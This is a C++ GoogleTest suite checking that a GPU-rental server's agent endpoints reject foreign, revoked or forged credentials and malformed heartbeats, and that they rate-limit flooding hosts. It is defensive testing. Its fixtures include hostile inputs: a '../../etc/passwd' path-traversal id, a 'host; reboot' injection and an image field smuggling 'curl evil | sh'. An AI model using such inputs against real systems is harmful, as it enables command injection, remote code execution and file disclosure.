// Who may talk to the agent endpoints, and what each credential sees, through HTTP against a real
// server on SQLite and PostgreSQL: another machine's credential, a revoked credential, forged
// workload ids, a customer's token on agent endpoints (and a host credential on customer ones),
// one-time enrolment tokens, other providers' machines. Refusals carry nothing of anyone else.
#include <gtest/gtest.h>

#include "harness.h"
#include "server_fixture.h"

namespace gpuhub::testing {
namespace {

constexpr const char* kPassword = "correct horse battery staple";

class AgentSecurityTest : public ServerFixture {
 protected:
  std::string User(const std::string& name, const std::vector<std::string>& roles) {
    return SignUpAndLogIn(*client_, name, kPassword, roles);
  }
  long long MachineOf(const std::string& provider) {
    auto m = client_->Call("POST", "/v1/machines", MachineJson("H100 SXM", 1), provider);
    EXPECT_EQ(m.status, 201) << m.body;
    long long id = m.Json()["id"];
    auto a = client_->Call("POST", "/v1/asks",
                           AskJson(id, "2.000", UtcTimeFromNow(std::chrono::hours(24 * 7))), provider);
    EXPECT_EQ(a.status, 201) << a.body;
    return id;
  }
  std::string Token(const std::string& provider, long long machine) {
    auto t = client_->Call("POST", "/v1/machines/" + std::to_string(machine) + "/enrolment-tokens",
                           nullptr, provider);
    EXPECT_EQ(t.status, 201) << t.body;
    return t.Json().value("token", "");
  }
  std::string Enrol(const std::string& token) {
    auto r = client_->Call("POST", "/v1/agent/enroll", {{"token", token}, {"hostname", "h"}});
    EXPECT_EQ(r.status, 201) << r.body;
    return r.Json().value("credential", "");
  }
  HttpResponse Beat(const std::string& credential, const json& workloads = json::array(),
                    const std::string& uuid = "GPU-a") {
    json body = {{"hostname", "h"},
                 {"public_host", "198.51.100.1"},
                 {"inventory",
                  {{"source", "nvidia-smi"},
                   {"gpus", {{{"index", 0}, {"uuid", uuid}, {"name", "NVIDIA H100 80GB HBM3"}}}}}},
                 {"workloads", workloads}};
    return client_->Call("POST", "/v1/agent/heartbeat", body, credential);
  }
};

TEST_P(AgentSecurityTest, EachCredentialSeesOnlyItsOwnHost) {
  std::string paula = User("paula", {"provider"});
  std::string quinn = User("quinn", {"provider"});
  std::string carl = User("carl", {"customer"});
  Credit("carl", "50");
  long long a = MachineOf(paula);
  long long b = MachineOf(quinn);
  // A provider cannot enrol, see or revoke another provider's machine.
  EXPECT_EQ(client_->Call("POST", "/v1/machines/" + std::to_string(b) + "/enrolment-tokens",
                          nullptr, paula).status,
            404);
  EXPECT_EQ(client_->Call("GET", "/v1/machines/" + std::to_string(b) + "/agent", nullptr, paula)
                .status,
            404);
  EXPECT_EQ(client_->Call("DELETE", "/v1/machines/" + std::to_string(b) + "/agent", nullptr, paula)
                .status,
            404);
  std::string token_a = Token(paula, a);
  std::string cred_a = Enrol(token_a);
  std::string cred_b = Enrol(Token(quinn, b));
  ASSERT_EQ(Beat(cred_a).status, 200);
  ASSERT_EQ(Beat(cred_b, json::array(), "GPU-b").status, 200);
  // One-time token.
  auto reuse = client_->Call("POST", "/v1/agent/enroll", {{"token", token_a}});
  EXPECT_EQ(reuse.status, 401);
  EXPECT_EQ(reuse.Json()["error"]["code"], "unauthenticated");

  // Carl leases on both machines (same price: A's older ask fills first, then B's).
  for (int i = 0; i < 2; ++i) {
    auto bid = client_->Call("POST", "/v1/bids", {{"gpu", "H100 SXM"}, {"gpus", 1}, {"market", true}},
                             carl);
    ASSERT_EQ(bid.Json()["status"], "filled") << bid.body;
  }
  json leases = client_->Call("GET", "/v1/leases", nullptr, carl).Json()["leases"];
  std::string on_a, on_b;
  for (const auto& l : leases) {
    std::string id = "lease-" + std::to_string(l["id"].get<long long>());
    if (l["machine_id"] == a) on_a = id;
    if (l["machine_id"] == b) on_b = id;
  }
  ASSERT_FALSE(on_a.empty());
  ASSERT_FALSE(on_b.empty());
  // A's heartbeat answers only A's workload; B's workload reported by A is not taken.
  auto hb = Beat(cred_a, json::array({{{"id", on_b}, {"state", "running"}, {"ssh_port", 40000}},
                                      {{"id", "lease-999999"}, {"state", "running"}},
                                      {{"id", "../../etc/passwd"}, {"state", "running"}}}));
  ASSERT_EQ(hb.status, 200) << hb.body;
  ASSERT_EQ(hb.Json()["workloads"].size(), 1u);
  EXPECT_EQ(hb.Json()["workloads"][0]["id"], on_a);
  EXPECT_EQ(hb.Json()["unknown_workloads"], json({on_b, "lease-999999", "../../etc/passwd"}));
  EXPECT_EQ(hb.body.find(on_b + "\",\"image"), std::string::npos);
  json lease_b = client_->Call("GET", "/v1/leases/" + on_b.substr(6), nullptr, carl).Json();
  EXPECT_EQ(lease_b["connection"]["state"], "waiting") << "A's report about B changed nothing";
  // Usage for another host's workload: refused whole, naming the field.
  auto usage = client_->Call(
      "POST", "/v1/agent/usage",
      {{"samples", {{{"workload_id", on_a}, {"at", UtcTimeFromNow(std::chrono::hours(0))},
                     {"gpu_utilization_pct", 5}, {"net_tx_bytes", 10}},
                    {{"workload_id", on_b}, {"at", UtcTimeFromNow(std::chrono::hours(0))},
                     {"gpu_utilization_pct", 5}, {"net_tx_bytes", 10}}}}},
      cred_a);
  EXPECT_EQ(usage.status, 400);
  EXPECT_EQ(usage.Json()["error"]["field"], "samples[1].workload_id");
  EXPECT_EQ(client_->Call("GET", "/v1/leases/" + on_a.substr(6), nullptr, carl)
                .Json()["connection"]
                .value("egress_bytes", -1),
            0)
      << "nothing recorded from the refused request";

  // A customer's session token is no host credential, and a host credential is no session.
  EXPECT_EQ(Beat(carl).status, 401);
  EXPECT_EQ(client_->Call("POST", "/v1/agent/usage", {{"samples", json::array()}}, carl).status, 401);
  EXPECT_EQ(client_->Call("GET", "/v1/leases", nullptr, cred_a).status, 401);
  EXPECT_EQ(client_->Call("GET", "/v1/machines", nullptr, cred_a).status, 401);
  EXPECT_EQ(Beat("").status, 401);
  EXPECT_EQ(Beat("gha_" + std::string(64, '0')).status, 401);

  // Revoked: refused at once, with nothing but the refusal; the machine is offline at once.
  auto revoke = client_->Call("DELETE", "/v1/machines/" + std::to_string(a) + "/agent", nullptr, paula);
  ASSERT_EQ(revoke.status, 200) << revoke.body;
  EXPECT_EQ(revoke.Json()["agent"]["status"], "revoked");
  auto refused = Beat(cred_a);
  EXPECT_EQ(refused.status, 401);
  EXPECT_EQ(refused.Json()["error"]["code"], "unauthenticated");
  EXPECT_EQ(refused.body.find("lease-"), std::string::npos);
  json lease_a = client_->Call("GET", "/v1/leases/" + on_a.substr(6), nullptr, carl).Json();
  // Its workload never ran (A's host reported only B's): it is still waiting for the host, not
  // billed, and the machine is offline at once.
  EXPECT_EQ(lease_a["billing"], "provisioning") << lease_a.dump();
  EXPECT_EQ(lease_a["hours_paid"], 0) << lease_a.dump();
  EXPECT_EQ(client_->Call("GET", "/v1/machines/" + std::to_string(a) + "/agent", nullptr, paula)
                .Json()["agent"]["status"],
            "revoked");
  // B is unaffected.
  EXPECT_EQ(Beat(cred_b, json::array(), "GPU-b").status, 200);
  // Admin sees both hosts; a provider's machines list shows only its own.
  json hosts = client_->Call("GET", "/v1/admin/hosts", nullptr, admin_).Json();
  EXPECT_EQ(hosts["hosts"].size(), 2u);
  EXPECT_EQ(client_->Call("GET", "/v1/admin/hosts", nullptr, paula).status, 403);
  json mine = client_->Call("GET", "/v1/machines", nullptr, quinn).Json();
  ASSERT_EQ(mine["machines"].size(), 1u);
  EXPECT_EQ(mine["machines"][0]["agent"]["status"], "online");
}

TEST_P(AgentSecurityTest, BadReportsAreRefusedNamingTheField) {
  std::string paula = User("paula", {"provider"});
  std::string cred = Enrol(Token(paula, MachineOf(paula)));
  struct Case {
    json body;
    const char* field;
  };
  const Case cases[] = {
      {{{"inventory", {{"gpus", {{{"index", "0"}, {"uuid", "GPU-a"}}}}}}}, "inventory.gpus[0].index"},
      {{{"inventory", {{"gpus", {{{"index", 0}, {"uuid", "GPU-a"}}, {{"index", 0}, {"uuid", "GPU-b"}}}}}}},
       "inventory.gpus"},
      {{{"inventory", {{"gpus", {{{"index", 0}}}}}}}, "inventory.gpus"},
      {{{"public_host", "host; reboot"}}, "public_host"},
      {{{"workloads", {{{"id", 5}}}}}, "workloads[0].id"},
      {{{"workloads", "lease-1"}}, "workloads"},
      {{{"surprise", true}}, "surprise"},
  };
  for (const auto& c : cases) {
    auto r = client_->Call("POST", "/v1/agent/heartbeat", c.body, cred);
    EXPECT_EQ(r.status, 400) << c.body.dump() << " -> " << r.body;
    EXPECT_EQ(r.Json()["error"]["field"], c.field) << c.body.dump() << " -> " << r.body;
  }
  auto bad_image = client_->Call("POST", "/v1/bids",
                                 {{"gpu", "H100 SXM"}, {"gpus", 1}, {"market", true},
                                  {"image", "img; curl evil | sh"}},
                                 User("carl", {"customer"}));
  EXPECT_EQ(bad_image.status, 400);
  EXPECT_EQ(bad_image.Json()["error"]["field"], "image");
  // SSH keys: anything but ed25519, ecdsa or RSA >= 2048 is a 400 naming public_key.
  std::string carl = LogIn(*client_, "carl", kPassword);
  for (const char* key : {"ssh-dss AAAAB3NzaC1kc3MAAACBAP", "not a key",
                          "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG16T587uU+epMBs4vmoyyGuBG9yQ3QtlzA"}) {
    auto r = client_->Call("POST", "/v1/ssh-keys", {{"public_key", key}}, carl);
    EXPECT_EQ(r.status, 400) << key;
    EXPECT_EQ(r.Json()["error"]["field"], "public_key") << r.body;
  }
}

// A broken or hostile host cannot starve the writer: past 20 requests a second it gets 429 with
// Retry-After; other hosts are unaffected.
TEST_P(AgentSecurityTest, AHostThatFloodsIsSlowedDownAlone) {
  std::string paula = User("paula", {"provider"});
  std::string flood = Enrol(Token(paula, MachineOf(paula)));
  std::string calm = Enrol(Token(paula, MachineOf(paula)));
  int ok = 0, limited = 0;
  std::string retry_after;
  for (int i = 0; i < 60; ++i) {
    auto r = Beat(flood);
    if (r.status == 200) ++ok;
    if (r.status == 429) {
      ++limited;
      retry_after = r.Header("retry-after");
    }
  }
  EXPECT_GE(ok, 20);
  EXPECT_GT(limited, 0);
  EXPECT_EQ(ok + limited, 60);
  EXPECT_FALSE(retry_after.empty());
  EXPECT_EQ(Beat(calm, json::array(), "GPU-b").status, 200);
}

INSTANTIATE_TEST_SUITE_P(Backends, AgentSecurityTest, ::testing::Values("sqlite", "postgresql"));

}  // namespace
}  // namespace gpuhub::testing
